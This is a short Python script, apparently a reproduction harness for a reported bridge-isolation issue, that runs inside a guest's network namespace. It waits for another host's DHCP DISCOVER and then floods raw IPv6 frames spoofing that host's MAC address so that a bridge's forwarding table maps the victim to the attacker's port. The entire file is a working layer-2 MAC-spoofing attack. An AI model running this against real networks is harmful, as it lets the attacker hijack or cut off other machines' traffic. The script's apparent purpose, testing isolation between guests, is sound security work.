#!/usr/bin/env python3
"""The attacker of issue 16 item 1, in a guest's namespace: wait for a
DHCP client message (UDP to port 67) from another MAC on IFACE -- a
newcomer's DISCOVER -- then send, every GAP seconds until SECONDS have
passed, IPv6 frames with that MAC as Ethernet source (an ICMPv6 echo
request from an unheld link-local address to ff02::1), so that the bridge
learns the newcomer's MAC on the attacker's port. Prints the MAC taken
and how many frames were sent.

usage: fdb_steal.py IFACE SECONDS [GAP]
"""
import socket
import struct
import sys
import time

iface, seconds = sys.argv[1], float(sys.argv[2])
gap = float(sys.argv[3]) if len(sys.argv) > 3 else 0.002
ETH_P_ALL = 0x0003
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
s.bind((iface, 0))
own = open("/sys/class/net/%s/address" % iface).read().strip()
own = bytes(int(x, 16) for x in own.split(":"))
end = time.monotonic() + seconds
victim = None
s.settimeout(0.2)
while victim is None and time.monotonic() < end:
    try:
        f, addr = s.recvfrom(2048)
    except socket.timeout:
        continue
    if addr[2] == socket.PACKET_OUTGOING or len(f) < 14 + 20 + 8:
        continue
    if f[12:14] != b"\x08\x00" or f[14 + 9] != 17:
        continue
    ihl = (f[14] & 15) * 4
    dport = struct.unpack("!H", f[14 + ihl + 2:14 + ihl + 4])[0]
    if dport == 67 and f[6:12] != own:
        victim = f[6:12]
if victim is None:
    print("none 0")
    sys.exit(1)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF


src = socket.inet_pton(socket.AF_INET6, "fe80::dead:beef")
dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
icmp = struct.pack("!BBHHH", 128, 0, 0, 0x1616, 1) + b"x" * 8
pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
icmp = icmp[:2] + struct.pack("!H", csum(pseudo + icmp)) + icmp[4:]
ip6 = struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + src + dst
frame = b"\x33\x33\x00\x00\x00\x01" + victim + b"\x86\xdd" + ip6 + icmp
sent = 0
while time.monotonic() < end:
    s.send(frame)
    sent += 1
    time.sleep(gap)
print(":".join("%02x" % b for b in victim), sent)
